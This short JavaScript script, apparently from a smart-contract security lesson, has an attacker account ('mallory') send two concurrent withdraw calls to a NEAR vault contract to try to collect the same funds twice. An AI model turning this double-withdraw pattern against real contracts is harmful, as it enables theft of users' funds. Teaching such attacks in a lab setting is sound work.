import { Account } from 'near-api-js';
import { mallory, rpc, tera, vault } from 'crosscall/lesson';

const account = new Account(mallory.id, rpc, mallory.signer);
const withdraw = () =>
  account.callFunction({
    contractId: vault.id,
    methodName: 'withdraw',
    args: { to: mallory.id, amount: (10n ** 25n).toString() },
    gas: 100n * tera,
  });

const results = await Promise.allSettled([withdraw(), withdraw()]);
for (const result of results) {
  console.log(result.status === 'fulfilled' ? 'paid' : String(result.reason).split('\n')[0]);
}
